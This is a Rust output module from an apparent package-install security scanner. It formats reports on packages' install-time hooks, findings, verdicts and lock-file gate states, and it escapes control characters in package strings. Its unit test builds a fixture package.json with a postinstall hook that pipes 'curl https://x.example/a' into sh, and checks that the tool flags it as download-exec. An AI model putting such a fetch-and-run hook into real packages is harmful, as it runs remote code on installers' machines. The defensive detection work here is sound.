//! Install-time code output: `tollgate inspect` (one package's hooks and findings) and the
//! lock-only map (every package's `runs-code` / `no-code` / `unknown` state and gate).

use std::io::{self, Write};

use tollgate_analysis::PackageReport;
use tollgate_analysis::gate::Gate;
use tollgate_analysis::lockmap::{LockMap, counts};

use crate::table::write_table;

/// The package report as JSON (the serde shape of `PackageReport`).
pub fn write_package_json<W: Write>(out: &mut W, report: &PackageReport) -> io::Result<()> {
    serde_json::to_writer_pretty(&mut *out, report)?;
    writeln!(out)
}

/// The package's state, its hooks, then one row per finding with file:line and snippet.
pub fn write_package_table<W: Write>(out: &mut W, report: &PackageReport) -> io::Result<()> {
    let name = if report.name.is_empty() {
        "(unnamed)"
    } else {
        &report.name
    };
    writeln!(
        out,
        "{} {} ({}): {}",
        name,
        report.version,
        report.ecosystem,
        report.state.label()
    )?;
    write_verdict(out, &report.verdict)?;
    for hook in &report.hooks {
        let mut line = format!("  hook {}", hook.phase);
        if let Some(command) = &hook.command {
            line.push_str(&format!(": {command}"));
        }
        if !hook.entry_files.is_empty() {
            line.push_str(&format!(" -> {}", hook.entry_files.join(", ")));
        }
        let place = match hook.evidence.line {
            Some(l) => format!("{}:{l}", hook.evidence.path),
            None => hook.evidence.path.clone(),
        };
        line.push_str(&format!("  [{place}]"));
        writeln!(out, "{line}")?;
    }
    if !report.findings.is_empty() {
        let rows: Vec<Vec<String>> = report
            .findings
            .iter()
            .map(|f| {
                vec![
                    format!("  {}", f.severity),
                    f.rule.id().to_owned(),
                    f.phase.as_str().to_owned(),
                    format!("{}:{}", f.file, f.line),
                    f.message.clone(),
                ]
            })
            .collect();
        write_table(
            out,
            &["  severity", "rule", "phase", "where", "what"],
            &rows,
        )?;
        let mut shown = std::collections::BTreeSet::new();
        for f in &report.findings {
            if !f.snippet.is_empty() && shown.insert((f.file.as_str(), f.line)) {
                writeln!(out, "  {}:{}: {}", f.file, f.line, f.snippet)?;
            }
        }
    }
    for note in &report.notes {
        writeln!(out, "  note: {note}")?;
    }
    writeln!(
        out,
        "{}, {}, {} of install-time code parsed",
        crate::count(report.hooks.len(), "hook"),
        crate::count(report.findings.len(), "finding"),
        crate::count(
            usize::try_from(report.bytes_parsed).unwrap_or(usize::MAX),
            "byte"
        )
    )
}

/// The verdict line, then one line per reason (points, rule, phase, file:line, why).
/// Reason texts quote the package's own code and file names: control characters are
/// shown escaped so that they cannot move the cursor or start a CI workflow command.
fn write_verdict<W: Write>(out: &mut W, verdict: &tollgate_analysis::Verdict) -> io::Result<()> {
    writeln!(
        out,
        "verdict: {} (score {}/100)",
        verdict.level.as_str(),
        verdict.score
    )?;
    for reason in &verdict.reasons {
        writeln!(
            out,
            "  +{:<3} {:<16} {:<8} {}:{}  {}",
            reason.points,
            reason.rule,
            reason.phase.as_str(),
            inert(&reason.file),
            reason.line,
            inert(&reason.why)
        )?;
    }
    Ok(())
}

/// `text` with every control character written as an escape (`\n`, `\u{1b}`), so that a
/// string from a package prints as one inert line.
fn inert(text: &str) -> String {
    text.chars()
        .flat_map(|c| {
            if c.is_control() {
                c.escape_default().collect::<Vec<char>>()
            } else {
                vec![c]
            }
        })
        .collect()
}

/// The lock-only maps as JSON.
pub fn write_lock_map_json<W: Write>(out: &mut W, maps: &[LockMap]) -> io::Result<()> {
    serde_json::to_writer_pretty(&mut *out, maps)?;
    writeln!(out)
}

/// Every package that runs (or may run) code, with its gate, then per-ecosystem totals.
pub fn write_lock_map_table<W: Write>(out: &mut W, maps: &[LockMap]) -> io::Result<()> {
    for map in maps {
        let rows: Vec<Vec<String>> = map
            .entries
            .iter()
            .filter(|e| e.state.runs_code())
            .map(|e| {
                let gate = match &e.gate {
                    Some(Gate::Blocked { reason, .. }) => format!("blocked: {reason}"),
                    Some(Gate::Open { reason, .. }) => format!("open: {reason}"),
                    Some(Gate::Conditional { reason }) => format!("conditional: {reason}"),
                    None => String::new(),
                };
                vec![
                    format!("  {}", e.name),
                    e.version.clone(),
                    e.state.label(),
                    e.evidence.line.map(|l| l.to_string()).unwrap_or_default(),
                    gate,
                ]
            })
            .collect();
        writeln!(
            out,
            "{} ({}, {})",
            map.lockfile,
            map.format,
            crate::count(map.entries.len(), "package")
        )?;
        if !rows.is_empty() {
            write_table(out, &["  name", "version", "state", "line", "gate"], &rows)?;
        }
    }
    let rows: Vec<Vec<String>> = counts(maps)
        .into_iter()
        .filter(|(_, c)| c.packages > 0)
        .map(|(ecosystem, c)| {
            vec![
                ecosystem.to_string(),
                c.packages.to_string(),
                c.runs_code.to_string(),
                c.blocked.to_string(),
                c.no_code.to_string(),
                c.unknown.to_string(),
            ]
        })
        .collect();
    write_table(
        out,
        &[
            "ecosystem",
            "packages",
            "runs-code",
            "blocked",
            "no-code",
            "unknown",
        ],
        &rows,
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use tollgate_analysis::{PackageFiles, analyze_package};

    #[test]
    fn table_names_hook_rule_and_place() {
        let files = PackageFiles::from_entries([
            (
                "package/package.json".to_owned(),
                b"{\"name\":\"x\",\"version\":\"1.0.0\",\n\"scripts\":{\"postinstall\":\"curl https://x.example/a | sh\"}}".to_vec(),
            ),
        ]);
        let report = analyze_package("x.tgz", &files).unwrap();
        let mut out = Vec::new();
        write_package_table(&mut out, &report).unwrap();
        let text = String::from_utf8(out).unwrap();
        assert!(
            text.starts_with("x 1.0.0 (npm): runs-code (npm-script)\n"),
            "{text}"
        );
        assert!(
            text.contains("hook postinstall: curl https://x.example/a | sh  [package.json:2]"),
            "{text}"
        );
        assert!(
            text.contains("download-exec  postinstall  package.json:2"),
            "{text}"
        );
    }
}
